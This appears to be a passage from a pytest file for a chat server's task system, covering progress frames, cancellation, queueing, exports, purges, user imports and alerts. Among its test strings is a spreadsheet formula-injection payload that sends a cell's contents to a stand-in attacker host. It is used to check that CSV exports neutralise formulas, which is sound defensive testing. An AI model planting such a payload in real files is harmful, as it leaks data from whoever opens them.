"""Long-running tasks and alerts against a real server: API, `task` and `alert` frames.

Covers who receives progress (admins and the starter, each once), throttling,
the final frame, a console connecting mid-task, cancel in each state, the
concurrency queue, interrupted tasks after a crash or a shutdown, the export,
purge and import kinds, validation and permissions, and the alert triggers.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from websockets.asyncio.client import ClientConnection

from chat.backends.memory_repeats import RepeatCounter
from chat.monitoring.alerts import HealthWatcher
from tests.conftest import ServerFactory, Servers
from tests.dbseed import age_messages, seed_messages
from tests.harness import (
    Account,
    Api,
    ServerProcess,
    connect,
    expect_no_frame,
    join,
    recv,
    recv_until,
    send,
)

FINAL = {"succeeded", "failed", "cancelled"}
INTERVAL = 0.2  # task_progress_interval of the module's server
TRICKY = [
    "plain",
    'comma, "quotes" and a\nnew line',
    "=1+2 looks like a formula",
    "ünïcødé ✓ 🎉",
    "tab\there; semicolon",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
]


def csv_safe(value: str) -> str:
    """What an export's CSV holds for `value`: formulas defused with a leading quote."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


@pytest.fixture(scope="module")
def tserver(module_servers: ServerFactory) -> ServerProcess:
    """On the redis backend, two chat processes that run no task and one `chat worker`
    that runs them all: every test of this server holds wherever the task runs."""
    return module_servers(
        task_workers=1,
        task_concurrency=4,
        task_progress_interval=INTERVAL,
        tasks_per_user=3,
        send_rate=2,
        send_burst=2,
        rate_limit_close_after=2,
        alert_rate_limit_closes=2,
        alert_auth_failures=3,
        login_failures_per_ip=1000,
        login_failures_per_account=1000,
    )


@pytest.fixture(scope="module")
def tapi(tserver: ServerProcess) -> Iterator[Api]:
    client = Api(tserver)
    yield client
    client.close()


@pytest.fixture(scope="module")
def admin(tapi: Api) -> Account:
    return tapi.admin()


def start(api: Api, who: Account, kind: str, **params: Any) -> dict[str, Any]:
    r = api.client.post("/api/tasks", json={"kind": kind, "params": params}, headers=who.headers)
    assert r.status_code == 202, r.text
    body: dict[str, Any] = r.json()
    assert r.headers["location"] == f"/api/tasks/{body['id']}"
    return body


def get(api: Api, who: Account, task_id: str) -> dict[str, Any]:
    r = api.client.get(f"/api/tasks/{task_id}", headers=who.headers)
    assert r.status_code == 200, r.text
    body: dict[str, Any] = r.json()
    return body


def wait_done(api: Api, who: Account, task_id: str, timeout: float = 20.0) -> dict[str, Any]:
    """Poll (the fallback for clients without a socket) until the task has finished."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        task = get(api, who, task_id)
        if task["status"] in FINAL:
            return task
        time.sleep(0.05)
    raise AssertionError(f"task {task_id} did not finish: {task}")


async def task_frames(
    ws: ClientConnection, task_id: str, timeout: float = 15.0
) -> list[dict[str, Any]]:
    """Every `task` frame of one task, up to and including its final one."""
    frames: list[dict[str, Any]] = []
    deadline = asyncio.get_running_loop().time() + timeout
    while True:
        frame = await recv(ws, deadline - asyncio.get_running_loop().time())
        if frame["type"] == "task" and frame["id"] == task_id:
            frames.append(frame)
            if frame["status"] in FINAL:
                return frames


def check_sequence(frames: list[dict[str, Any]], final: str) -> None:
    statuses = [f["status"] for f in frames]
    assert statuses[0] == "queued" and statuses[-1] == final, statuses
    assert statuses.count(final) == 1
    progress = [f["progress"] for f in frames]
    assert progress == sorted(progress), "progress never goes back"
    assert all(0.0 <= p <= 1.0 for p in progress)


# --- frames -------------------------------------------------------------------------


async def test_progress_reaches_admins_and_the_starter_once_each(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    starter, other = tapi.user(), tapi.user()
    a = await connect(tserver, admin.token)
    s = await connect(tserver, starter.token)
    o = await connect(tserver, other.token)
    task = start(tapi, starter, "demo", steps=5, delay=0.05)
    assert task["status"] in ("queued", "running") and task["user"]["name"] == starter.name
    seen_by_admin = await task_frames(a, task["id"])
    seen_by_starter = await task_frames(s, task["id"])
    assert seen_by_admin == seen_by_starter
    check_sequence(seen_by_admin, "succeeded")
    last = seen_by_admin[-1]
    assert last["progress"] == 1.0 and last["user"]["name"] == starter.name
    assert last["started_at"] <= last["finished_at"]
    await expect_no_frame(o, 0.3, kind="task")
    # An admin who starts a task gets each frame once (through `admins` only).
    mine = start(tapi, admin, "demo", steps=3, delay=0.02)
    frames = await task_frames(a, mine["id"])
    check_sequence(frames, "succeeded")
    assert len({json.dumps(f, sort_keys=True) for f in frames}) == len(frames)
    await expect_no_frame(a, 0.3, kind="task")
    for ws in (a, s, o):
        await ws.close()


async def test_progress_is_throttled_and_the_final_frame_comes_last(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    a = await connect(tserver, admin.token)
    started = time.monotonic()
    task = start(tapi, admin, "demo", steps=60, delay=0.01)
    frames = await task_frames(a, task["id"])
    elapsed = time.monotonic() - started
    check_sequence(frames, "succeeded")
    progress = [f for f in frames if f["status"] == "running" and f["progress"] > 0]
    # 60 reports, but no more than one frame per interval (plus slack for scheduling).
    assert 1 <= len(progress) <= elapsed / INTERVAL + 2, (len(progress), elapsed)
    assert frames[-1]["progress"] == 1.0 and frames[-1]["detail"] == "step 60 of 60"
    # Nothing at all after the final frame, even a late throttled one.
    await expect_no_frame(a, INTERVAL * 2, kind="task")
    # A burst with no delay at all still ends with exactly one final frame.
    burst = start(tapi, admin, "demo", steps=2000, delay=0)
    frames = await task_frames(a, burst["id"])
    check_sequence(frames, "succeeded")
    assert len(frames) <= 10
    await expect_no_frame(a, INTERVAL * 2, kind="task")
    await a.close()


async def test_a_console_connecting_mid_task_gets_the_current_state_first(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    user = tapi.user()
    watcher = await connect(tserver, user.token)
    # Four slow steps: no live frame is due for seconds after `running`.
    task = start(tapi, user, "demo", steps=4, delay=4)
    await recv_until(watcher, "task", id=task["id"], status="running")
    late = await connect(tserver, admin.token)
    first = await recv(late, timeout=2)  # only the snapshot can come this soon
    assert first["type"] == "task" and first["id"] == task["id"], first
    assert first["status"] == "running" and first["progress"] == 0, first
    assert first["user"]["name"] == user.name and first["started_at"]
    # The starter's own new connection gets their task too; another user's does not.
    mine = await connect(tserver, user.token)
    assert (await recv(mine, timeout=2))["status"] == "running"
    stranger = await connect(tserver, tapi.user().token)
    await expect_no_frame(stranger, 0.3, kind="task")
    r = tapi.client.post(f"/api/tasks/{task['id']}/cancel", headers=user.headers)
    assert r.status_code == 200 and r.json()["status"] == "cancelled"
    for ws in (watcher, late, mine, stranger):
        await ws.close()


# --- cancel and queue -----------------------------------------------------------------


async def test_cancel_stops_a_running_task(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    user, other = tapi.user(), tapi.user()
    s = await connect(tserver, user.token)
    task = start(tapi, user, "demo", steps=100, delay=0.1)
    await recv_until(s, "task", id=task["id"], status="running")
    r = tapi.client.post(f"/api/tasks/{task['id']}/cancel", headers=other.headers)
    assert r.status_code == 404
    r = tapi.client.post(f"/api/tasks/{task['id']}/cancel", headers=user.headers)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["status"] == "cancelled" and body["finished_at"] and body["progress"] < 0.5
    final = await recv_until(s, "task", id=task["id"], status="cancelled")
    assert final["finished_at"]
    await expect_no_frame(s, 0.4, kind="task")
    r = tapi.client.post(f"/api/tasks/{task['id']}/cancel", headers=user.headers)
    assert r.status_code == 409 and "cancelled" in r.json()["detail"]
    # An admin may cancel anyone's task.
    again = start(tapi, user, "demo", steps=100, delay=0.1)
    r = tapi.client.post(f"/api/tasks/{again['id']}/cancel", headers=admin.headers)
    assert r.status_code == 200 and r.json()["status"] == "cancelled"
    await s.close()


@pytest.fixture(scope="module")
def one_slot(module_servers: ServerFactory) -> Iterator[tuple[ServerProcess, Api, Account]]:
    """A server that runs one task at a time and notices dead processes quickly."""
    server = module_servers(
        task_concurrency=1, task_progress_interval=0.05, task_heartbeat_interval=0.2
    )
    api = Api(server)
    yield server, api, api.admin()
    api.close()


async def test_excess_tasks_wait_queued_under_the_concurrency_limit(
    one_slot: tuple[ServerProcess, Api, Account],
) -> None:
    server, api, boss = one_slot
    a = await connect(server, boss.token)
    first = start(api, boss, "demo", steps=100, delay=0.05)
    second = start(api, boss, "demo", steps=100, delay=0.05)
    third = start(api, boss, "demo", steps=2, delay=0.01)
    await recv_until(a, "task", id=first["id"], status="running")
    await asyncio.sleep(0.3)
    assert get(api, boss, second["id"])["status"] == "queued"
    assert get(api, boss, third["id"])["status"] == "queued"
    listed = api.client.get("/api/tasks", params={"active": "true"}, headers=boss.headers)
    assert {t["id"] for t in listed.json()["items"]} == {first["id"], second["id"], third["id"]}
    # Cancelling a queued task never runs it.
    r = api.client.post(f"/api/tasks/{second['id']}/cancel", headers=boss.headers)
    assert r.json()["status"] == "cancelled" and r.json()["started_at"] is None
    # Freeing the slot starts the next one in order.
    api.client.post(f"/api/tasks/{first['id']}/cancel", headers=boss.headers)
    frames = await task_frames(a, third["id"])
    statuses = [f["status"] for f in frames if f["status"] != "queued"]
    assert statuses[0] == "running" and statuses[-1] == "succeeded"
    assert get(api, boss, second["id"])["started_at"] is None
    await a.close()


def test_admin_tasks_jump_the_queue_and_users_run_one_at_a_time(
    one_slot: tuple[ServerProcess, Api, Account],
) -> None:
    _, api, boss = one_slot
    u1, u2 = api.user(), api.user()
    a = start(api, u1, "demo", steps=10, delay=0.1)  # takes the one slot for ~1 s
    b = start(api, u1, "demo", steps=1, delay=0.05)
    c = start(api, u2, "demo", steps=1, delay=0.05)
    d = start(api, boss, "demo", steps=1, delay=0.05)  # the admin's comes last...
    done = {
        name: wait_done(api, boss, t["id"]) for name, t in zip("abcd", (a, b, c, d), strict=True)
    }
    assert all(t["status"] == "succeeded" for t in done.values()), done
    # ... and runs first once the slot is free; then the users' tasks, oldest first.
    order = sorted(done, key=lambda name: done[name]["started_at"])
    assert order == ["a", "d", "b", "c"], {n: t["started_at"] for n, t in done.items()}


async def test_tasks_cut_short_by_a_crash_or_a_shutdown_are_marked_interrupted(
    one_slot: tuple[ServerProcess, Api, Account],
) -> None:
    server, api, boss = one_slot
    running = start(api, boss, "demo", steps=100, delay=0.1)
    queued = start(api, boss, "demo", steps=100, delay=0.1)
    deadline = time.monotonic() + 10
    while get(api, boss, running["id"])["status"] != "running" and time.monotonic() < deadline:
        time.sleep(0.05)
    server.stop(signal.SIGKILL)
    server.start()
    tokens = api.login(boss.name, boss.password)
    boss.token = tokens["access_token"]
    for task, was in ((running, "running"), (queued, "queued")):
        after = get(api, boss, task["id"])
        assert after["status"] == "failed", after
        assert after["error"].startswith("interrupted") and after["finished_at"]
        alerts = api.client.get("/api/alerts", headers=boss.headers).json()["items"]
        assert any(task["id"][:8] in a["text"] and was in a["text"] for a in alerts), alerts
    # A graceful shutdown marks its own tasks at once, and alerts the consoles.
    a = await connect(server, boss.token)
    third = start(api, boss, "demo", steps=100, delay=0.1)
    await recv_until(a, "task", id=third["id"], status="running")
    server.stop(signal.SIGTERM)
    server.start()
    boss.token = api.login(boss.name, boss.password)["access_token"]
    after = get(api, boss, third["id"])
    assert after["status"] == "failed" and "shut down" in after["error"]


# --- export ---------------------------------------------------------------------------


async def test_export_jsonl_and_csv_match_the_history_and_only_readers_download(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    owner, reader, outsider = tapi.user(), tapi.user(), tapi.user()
    room = tapi.room(owner, private=True)
    r = tapi.client.post(
        f"/api/rooms/{room}/members", json={"username": reader.name}, headers=owner.headers
    )
    assert r.status_code in (200, 201, 204), r.text
    bodies = [TRICKY[i % len(TRICKY)] + f" #{i}" for i in range(2345)]  # > 2 batches
    seqs = await seed_messages(tserver.database_url, room, owner.name, bodies)
    # Outsiders cannot export or download a private room.
    r = tapi.client.post(
        "/api/tasks", json={"kind": "export", "params": {"room": room}}, headers=outsider.headers
    )
    assert r.status_code == 404
    jsonl = start(tapi, owner, "export", room=room, format="jsonl")
    done = wait_done(tapi, owner, jsonl["id"])
    assert done["status"] == "succeeded", done
    assert done["result"]["rows"] == len(bodies) and done["download"].endswith("/result")
    for who in (owner, reader, admin):
        r = tapi.client.get(done["download"], headers=who.headers)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("application/x-ndjson")
        assert "attachment" in r.headers["content-disposition"]
        lines = [json.loads(line) for line in r.text.splitlines()]
        assert [m["seq"] for m in lines] == seqs
        assert [m["body"] for m in lines] == bodies
        assert {m["user"]["name"] for m in lines} == {owner.name}
        assert all(m["room"] == room and m["ts"].endswith("Z") for m in lines)
    assert tapi.client.get(done["download"], headers=outsider.headers).status_code == 404
    assert tapi.client.get(done["download"]).status_code == 401
    # CSV: a header, then the same rows, quoting intact, and anything a spreadsheet
    # would run as a formula prefixed with a quote (JSONL above stays verbatim).
    csv_task = start(tapi, reader, "export", room=room, format="csv")
    done = wait_done(tapi, reader, csv_task["id"])
    r = tapi.client.get(f"/api/tasks/{csv_task['id']}/result", headers=owner.headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == [
        "room", "seq", "id", "ts", "user_id", "user", "body", "edited_at", "deleted",
        "attachments",
    ]  # fmt: skip
    assert [row[6] for row in rows[1:]] == [csv_safe(b) for b in bodies]
    assert rows[6][6] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click me") #5'
    assert bodies[5].startswith("=HYPERLINK(")  # verbatim in JSONL (checked above)
    assert [int(row[1]) for row in rows[1:]] == seqs
    assert done["result"]["bytes"] == len(r.content)


async def test_export_result_before_the_end_and_for_other_kinds(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    user = tapi.user()
    room = tapi.room(user)
    await seed_messages(tserver.database_url, room, user.name, ["x"] * 10)
    demo = start(tapi, user, "demo", steps=1, delay=0)
    r = tapi.client.get(f"/api/tasks/{demo['id']}/result", headers=user.headers)
    assert r.status_code == 409 and r.json()["detail"] == "a demo task has no result file"
    other = tapi.user()  # another user's task stays unknown
    assert (
        tapi.client.get(f"/api/tasks/{demo['id']}/result", headers=other.headers).status_code == 404
    )
    r = tapi.client.get("/api/tasks/no-such-task/result", headers=user.headers)
    assert r.status_code == 404
    task = start(tapi, user, "export", room=room)
    r = tapi.client.get(f"/api/tasks/{task['id']}/result", headers=user.headers)
    assert r.status_code in (200, 409)  # 409 while it runs
    assert wait_done(tapi, user, task["id"])["status"] == "succeeded"
    # Anyone who may read a public room may download its export.
    r = tapi.client.get(f"/api/tasks/{task['id']}/result", headers=tapi.user().headers)
    assert r.status_code == 200 and len(r.text.splitlines()) == 10
    r = tapi.client.post(
        "/api/tasks", json={"kind": "export", "params": {"room": "nope"}}, headers=user.headers
    )
    assert r.status_code == 404


# --- purge ----------------------------------------------------------------------------


async def test_purge_deletes_old_messages_in_batches_and_only_admins_may(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    user = tapi.user()
    room, other_room = tapi.room(user), tapi.room(user)
    seqs = await seed_messages(tserver.database_url, room, user.name, ["old"] * 1200)
    await seed_messages(tserver.database_url, room, user.name, ["new"] * 5)
    await seed_messages(tserver.database_url, other_room, user.name, ["old elsewhere"] * 3)
    await age_messages(tserver.database_url, room, seqs, 3 * 86400)
    await age_messages(tserver.database_url, other_room, [1, 2, 3], 3 * 86400)
    r = tapi.client.post(
        "/api/tasks",
        json={"kind": "purge", "params": {"older_than_days": 1}},
        headers=user.headers,
    )
    assert r.status_code == 403 and "admin" in r.json()["detail"]
    a = await connect(tserver, admin.token)
    task = start(tapi, admin, "purge", older_than_days=2, room=room)
    frames = await task_frames(a, task["id"])
    check_sequence(frames, "succeeded")
    assert any(0 < f["progress"] < 1 for f in frames) or len(frames) >= 3
    done = get(tapi, admin, task["id"])
    assert done["result"]["deleted"] == 1200
    left = tapi.history(user, room, limit=100)
    assert [m["body"] for m in left] == ["new"] * 5
    assert len(tapi.history(user, other_room, limit=100)) == 3
    # Nothing older than 5 days: nothing deleted.
    quiet = start(tapi, admin, "purge", older_than_days=5)
    assert wait_done(tapi, admin, quiet["id"])["result"]["deleted"] == 0
    await a.close()


# --- import ---------------------------------------------------------------------------


async def test_import_users_reports_each_bad_row(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    taken = tapi.user()
    good1, good2, boss = (f"imp{i}_{time.time_ns() % 10**8}" for i in range(3))
    text = "\n".join(
        [
            "username,password,role",
            f"{good1},long enough password",
            f"{taken.name},another password",
            "x,long enough password",
            f"{good2},fine password,user",
            "lonely",
            f"{boss},admin password,admin",
            "weird,some password,superuser",
            "",
        ]
    )
    task = start(tapi, admin, "import_users", csv=text)
    assert task["params"]["csv"].startswith("<") and "password" not in json.dumps(task["params"])
    done = wait_done(tapi, admin, task["id"], timeout=60)
    assert done["status"] == "succeeded", done
    result = done["result"]
    assert (result["total"], result["created"], result["failed"]) == (7, 3, 4), done
    errors = {e["line"]: e for e in result["errors"]}
    assert set(errors) == {3, 4, 6, 8}
    assert "taken" in errors[3]["error"] and errors[3]["username"] == taken.name
    assert "3 to 32" in errors[4]["error"]
    assert "username,password" in errors[6]["error"]
    assert "role" in errors[8]["error"]
    assert tapi.login(good1, "long enough password")["access_token"]
    me = tapi.client.get(
        "/api/me",
        headers={"Authorization": f"Bearer {tapi.login(boss, 'admin password')['access_token']}"},
    )
    assert me.json()["role"] == "admin"
    # The same as an uploaded file; and users may not import.
    upload = f"{good1}x,uploaded password\n".encode()
    r = tapi.client.post(
        "/api/tasks",
        data={"kind": "import_users", "params": "{}"},
        files={"file": ("users.csv", upload, "text/csv")},
        headers=admin.headers,
    )
    assert r.status_code == 202, r.text
    uploaded = wait_done(tapi, admin, r.json()["id"], timeout=60)
    assert uploaded["status"] == "succeeded" and uploaded["result"]["created"] == 1, uploaded
    r = tapi.client.post(
        "/api/tasks", json={"kind": "import_users", "params": {"csv": text}}, headers=taken.headers
    )
    assert r.status_code == 403


# --- validation and permissions --------------------------------------------------------


def test_bad_requests_get_clear_422s(tapi: Api, admin: Account) -> None:
    def post(body: Any) -> httpx.Response:
        return tapi.client.post("/api/tasks", json=body, headers=admin.headers)

    r = post({"kind": "nope"})
    assert r.status_code == 422 and "known kinds: demo, export" in r.json()["detail"]
    r = post({"kind": "demo", "params": {"steps": 0, "colour": "red"}})
    assert r.status_code == 422
    locs = {tuple(e["loc"]) for e in r.json()["detail"]}
    assert locs == {("params", "steps"), ("params", "colour")}
    r = post({"kind": "demo", "params": {"steps": 10_000, "delay": 60}})
    assert r.status_code == 422 and "at most 3600 seconds" in r.text
    # Non-admins' demos are shorter still; admins may go up to the hour.
    long_demo = {"kind": "demo", "params": {"steps": 61, "delay": 1}}
    user = tapi.user()
    r = tapi.client.post("/api/tasks", json=long_demo, headers=user.headers)
    assert r.status_code == 422 and "at most 60 seconds" in r.text
    r = post(long_demo)
    assert r.status_code == 202, r.text
    tapi.client.post(f"/api/tasks/{r.json()['id']}/cancel", headers=admin.headers)
    r = post({"kind": "export", "params": {"room": "x", "format": "xml"}})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["params", "format"]
    r = post({"params": {}})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "kind"]
    r = tapi.client.post("/api/tasks", content=b"{not json", headers=admin.headers)
    assert r.status_code == 422
    r = tapi.client.post(
        "/api/tasks",
        data={"kind": "demo", "params": "{}"},
        files={"file": ("x.csv", b"a", "text/csv")},
        headers=admin.headers,
    )
    assert r.status_code == 422 and "takes no file" in r.json()["detail"]
    assert tapi.client.post("/api/tasks", json={"kind": "demo"}).status_code == 401


def test_who_sees_which_tasks(tapi: Api, admin: Account) -> None:
    alice, bob = tapi.user(), tapi.user()
    mine = start(tapi, alice, "demo", steps=1, delay=0)
    theirs = start(tapi, bob, "demo", steps=1, delay=0)
    assert tapi.client.get(f"/api/tasks/{theirs['id']}", headers=alice.headers).status_code == 404
    listed = tapi.client.get("/api/tasks", headers=alice.headers).json()["items"]
    assert [t["id"] for t in listed] == [mine["id"]]
    everything = tapi.client.get("/api/tasks", headers=admin.headers).json()["items"]
    assert {mine["id"], theirs["id"]} <= {t["id"] for t in everything}
    kinds = tapi.client.get("/api/tasks/kinds", headers=alice.headers).json()["items"]
    assert {k["kind"] for k in kinds} == {"demo", "export"}
    kinds = tapi.client.get("/api/tasks/kinds", headers=admin.headers).json()["items"]
    assert {k["kind"] for k in kinds} == {"demo", "export", "purge", "import_users"}
    assert tapi.client.get("/api/alerts", headers=alice.headers).status_code == 403


def test_a_user_may_have_only_a_few_unfinished_tasks(tapi: Api, admin: Account) -> None:
    user = tapi.user()
    ids = [start(tapi, user, "demo", steps=50, delay=0.1)["id"] for _ in range(3)]
    r = tapi.client.post("/api/tasks", json={"kind": "demo", "params": {}}, headers=user.headers)
    assert r.status_code == 429 and "unfinished" in r.json()["detail"]
    start(tapi, admin, "demo", steps=1, delay=0)  # admins are not capped
    # Free slots or not (the module's server has four), a user runs one task at a time.
    deadline = time.monotonic() + 5
    while get(tapi, user, ids[0])["status"] != "running" and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.2)
    assert [get(tapi, user, i)["status"] for i in ids] == ["running", "queued", "queued"]
    for task_id in ids:
        tapi.client.post(f"/api/tasks/{task_id}/cancel", headers=user.headers)


# --- alerts ---------------------------------------------------------------------------


async def test_failed_tasks_and_repeated_abuse_raise_alerts(
    tserver: ServerProcess, tapi: Api, admin: Account
) -> None:
    a = await connect(tserver, admin.token)
    user = tapi.user()
    s = await connect(tserver, user.token)
    failing = start(tapi, user, "demo", steps=10, delay=0.02, fail_at=0.6)
    frames = await task_frames(s, failing["id"])
    assert frames[-1]["status"] == "failed" and frames[-1]["progress"] == 0.6
    assert "60%" in frames[-1]["error"]
    alert = await recv_until(a, "alert")
    assert alert["level"] == "error" and failing["id"][:8] in alert["text"]
    await expect_no_frame(s, 0.2, kind="alert")  # alerts are for admins only
    # Authentication failures from one address (threshold 3 on this server).
    for _ in range(3):
        r = tapi.client.post("/api/auth/token", data={"username": user.name, "password": "wrong"})
        assert r.status_code == 401
    alert = await recv_until(a, "alert")
    assert "failed authentication attempts from 127.0.0.1" in alert["text"]
    # A user closed for flooding twice (closes after 2 refusals, alert after 2 closes).
    flooder = tapi.user()
    room = tapi.room(flooder)
    for _ in range(2):
        ws = await connect(tserver, flooder.token)
        await join(ws, room)
        for i in range(8):
            try:
                await send(ws, type="send", room=room, body=f"flood {i}", ref=f"f{time.time_ns()}")
            except Exception:
                break
        await asyncio.wait_for(ws.wait_closed(), 5)
        assert ws.close_code == 4029  # closed for flooding
    alert = await recv_until(a, "alert", timeout=5)
    assert flooder.name in alert["text"] and "rate limits" in alert["text"]
    stored = tapi.client.get("/api/alerts", params={"limit": 3}, headers=admin.headers).json()
    assert stored["items"][0]["text"] == alert["text"]
    await a.close()
    await s.close()


async def test_health_watcher_alerts_when_a_dependency_goes_and_comes_back() -> None:
    raised: list[tuple[str, str]] = []

    class Recorder:
        async def raise_alert(self, level: str, text: str) -> None:
            raised.append((level, text))

    state = {"up": True}

    async def database() -> None:
        if not state["up"]:
            raise ConnectionRefusedError("connection refused")

    async def broker() -> None:
        return None

    watcher = HealthWatcher(Recorder(), {"database": database, "broker": broker}, 60)  # type: ignore[arg-type]
    await watcher.check()
    assert raised == []
    state["up"] = False
    await watcher.check()
    await watcher.check()  # still down: one alert only
    assert raised == [
        ("critical", "database unreachable: ConnectionRefusedError: connection refused")
    ]
    state["up"] = True
    await watcher.check()
    assert raised[-1] == ("info", "database reachable again")


def test_repeat_counter_fires_once_per_window() -> None:
    counter = RepeatCounter(threshold=3, window=10)
    assert [counter.count("k", t) for t in (0, 1, 2)] == [False, False, True]
    assert [counter.count("k", t) for t in (3, 4, 5, 6)] == [False] * 4  # cooling down
    assert not counter.count("other", 6)
    assert counter.count("k", 13)  # still flooding once the window has passed: again
    assert [counter.count("k", t) for t in (30, 31, 32)] == [False, False, True]
    assert [counter.count("slow", t) for t in (0, 11, 22, 33)] == [False] * 4


# --- several processes (Redis) -----------------------------------------------------------


@pytest.mark.redis
async def test_tasks_across_processes_frames_cancel_and_orphans(
    make_process: ServerFactory, databases: Any
) -> None:
    from tests.redis_support import shared_redis_url, unique_prefix

    site = {
        "redis_url": shared_redis_url(),
        "redis_prefix": unique_prefix(),
        "task_heartbeat_interval": 0.3,
        "task_progress_interval": 0.1,
    }
    database = databases.new()
    a = make_process(database, **site)
    b = make_process(database, **site)
    api_a, api_b = Api(a), Api(b)
    boss = api_a.admin()
    user = api_a.user()
    # Progress of a task running on A reaches an admin and the starter connected to B.
    watcher = await connect(b, boss.token)
    starter = await connect(b, user.token)
    task = start(api_a, user, "demo", steps=100, delay=0.1)
    running = await recv_until(watcher, "task", id=task["id"], status="running")
    await recv_until(starter, "task", id=task["id"], status="running")
    # A console opening on B sees it at once; a cancel made on B stops it on A.
    late = await connect(b, boss.token)
    first = await recv(late, timeout=2)
    assert first["id"] == task["id"] and first["status"] == "running", first
    r = api_b.client.post(f"/api/tasks/{task['id']}/cancel", headers=user.headers)
    assert r.status_code == 200 and r.json()["cancel_requested"], r.text
    final = await recv_until(watcher, "task", id=task["id"], status="cancelled", timeout=5)
    assert final["started_at"] == running["started_at"]
    assert get(api_b, user, task["id"])["status"] == "cancelled"
    # A process that dies leaves its tasks to the survivors, who mark them interrupted.
    doomed = start(api_a, boss, "demo", steps=100, delay=0.1)
    await recv_until(watcher, "task", id=doomed["id"], status="running")
    a.stop(signal.SIGKILL)
    failed = await recv_until(watcher, "task", id=doomed["id"], status="failed", timeout=10)
    assert failed["error"].startswith("interrupted")
    alert = await recv_until(watcher, "alert", timeout=5)
    assert doomed["id"][:8] in alert["text"] and "running" in alert["text"]
    for ws in (watcher, starter, late):
        await ws.close()
    api_a.close()
    api_b.close()


def test_old_export_files_are_pruned(tmp_path: Path) -> None:
    from chat.config import Settings
    from chat.tasks import ExportFiles

    settings = Settings(data_dir=tmp_path, export_retention_days=1, jwt_secret="s" * 32)
    files = ExportFiles.from_settings(settings)
    exports = tmp_path / "exports"
    assert files.prune() == 0  # no folder yet
    exports.mkdir()
    old, fresh = exports / "old.jsonl", exports / "fresh.csv"
    old.write_text("{}\n")
    fresh.write_text("a\n")
    two_days_ago = time.time() - 2 * 86400
    os.utime(old, (two_days_ago, two_days_ago))
    assert files.prune() == 1
    assert not old.exists() and fresh.exists()


def test_the_task_package_never_imports_the_services_container() -> None:
    """Each part of chat.tasks gets what it uses; taking `Services` whole would also bring
    back the services -> tasks -> kinds -> services import cycle."""
    import ast

    package = Path(__file__).resolve().parent.parent / "chat" / "tasks"
    modules = sorted(package.rglob("*.py"))
    assert len(modules) > 10
    for path in modules:
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
                names += [f"{node.module}.{alias.name}" for alias in node.names]
            else:
                continue
            assert not any(n == "chat.services" or n.startswith("chat.services.") for n in names), (
                f"{path.relative_to(package)} imports chat.services"
            )


async def test_the_cli_starts_follows_and_downloads_tasks(
    tserver: ServerProcess, tapi: Api, admin: Account, tmp_path: Path
) -> None:
    user = tapi.user()
    room = tapi.room(user, f"1{time.time_ns() % 10**9}")  # a name that parses as a number
    await seed_messages(tserver.database_url, room, user.name, ["one", "two, three"])
    auth = ("--url", tserver.ws, "--token", user.token)  # the WebSocket URL works too
    done = tserver.cli("tasks", "start", "export", "-p", f"room={room}", "-p", "format=csv",
                       "--wait", "--json", *auth)  # fmt: skip
    assert done.returncode == 0, done.stderr
    task = json.loads(done.stdout.splitlines()[-1])
    assert task["status"] == "succeeded" and task["result"]["rows"] == 2
    out = tmp_path / "room.csv"
    done = tserver.cli("tasks", "download", task["id"], "-o", str(out), *auth)
    assert done.returncode == 0, done.stderr
    assert list(csv.reader(io.StringIO(out.read_text())))[1:][1][6] == "two, three"
    done = tserver.cli("tasks", "start", "demo", "--params", '{"steps": 2, "fail_at": 0.5}',
                       "--wait", *auth)  # fmt: skip
    assert done.returncode == 1 and "error: demo failure requested at 50%" in done.stdout
    done = tserver.cli("tasks", "list", "--url", tserver.http, "--token", "nonsense")
    assert done.returncode == 3, done.stderr


@pytest.mark.redis
async def test_an_unreachable_broker_raises_an_alert(
    make_process: ServerFactory, tmp_path: Path
) -> None:
    from tests.redis_support import PrivateRedis

    redis = PrivateRedis(tmp_path).start()
    try:
        server = make_process(redis_url=redis.url, health_check_interval=0.3)
        api = Api(server)
        boss = api.admin()
        a = await connect(server, boss.token)
        redis.kill()
        down = await recv_until(a, "alert", timeout=10)
        assert down["level"] == "critical" and down["text"].startswith("broker unreachable")
        redis.start()
        up = await recv_until(a, "alert", timeout=15)
        assert (up["level"], up["text"]) == ("info", "broker reachable again")
        texts = [
            x["text"] for x in api.client.get("/api/alerts", headers=boss.headers).json()["items"]
        ]
        assert texts[:2] == ["broker reachable again", down["text"]]
        await a.close()
        api.close()
        # Stopped while its broker is up: a stop with Redis down once took over 30 s on
        # a loaded CI machine (not this test's subject; noted for the shutdown path).
        server.stop()
    finally:
        redis.kill()


@pytest.mark.one_backend
async def test_hello_comes_first_even_while_task_frames_flow(make_server: Servers) -> None:
    """A socket is findable by the hub before its `hello` is ready (two reads later):
    frames published meanwhile wait, so `hello` is always the first frame."""
    server = make_server(task_progress_interval=0.01)
    api = Api(server)
    boss = api.admin()
    task = start(api, boss, "demo", steps=4000, delay=0.002)
    watcher = await connect(server, boss.token)
    await recv_until(watcher, "task", id=task["id"], status="running")
    for _ in range(30):
